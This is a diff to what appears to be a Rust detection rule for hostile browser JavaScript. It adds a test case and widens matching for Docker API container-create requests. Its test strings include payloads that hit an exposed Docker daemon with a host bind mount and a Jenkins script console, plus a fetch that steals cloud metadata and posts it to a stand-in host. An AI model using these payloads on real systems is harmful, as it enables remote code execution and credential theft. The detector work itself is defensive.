@@ -21,6 +21,7 @@ pub(super) const SIGNAL: Signal = Signal {
     cases: crate::signals::Cases {
         with: &[
             "fetch('http://'+h+':2375/containers/create',{method:'POST',body:JSON.stringify({Image:'a'})}).then(r=>r.json())",
+            r#"ask('/containers/create',{method:'POST',body:'{"Cmd":["id"],"Image":"a","HostConfig":{"Binds":["/x:/y"]}}'}).then(done)"#,
             "fetch('/scriptText',{method:'POST',body:'script=println+1'}).then(r=>r.text())",
             "fetch('http://169.254.169.254/latest/meta-data/').then(r=>r.text()).then(t=>fetch('https://log.example/m',{method:'POST',body:t}))",
         ],
@@ -43,7 +44,9 @@ fn obeys(evidence: &Evidence<'_>, held: Held) -> bool {
     };
     let contains = || {
         near.has_text(&["/containers/create"])
-            && near.words(&["Cmd", "Entrypoint", "Binds", "Image"]).any(written)
+            && (near.words(&["Cmd", "Entrypoint", "Binds", "Image"]).any(written)
+                // `body: '{"Image":"a","Cmd":["b"]}'`
+                || near.has_text(&["\"cmd\":[", "\"cmd\": [", "\"binds\":[", "\"binds\": [", "\"image\":\"", "\"image\": \""]))
     };
     let scripts = || near.has_text(&["/scripttext"]) && near.has_text(&["script="]);
     let carried = || {
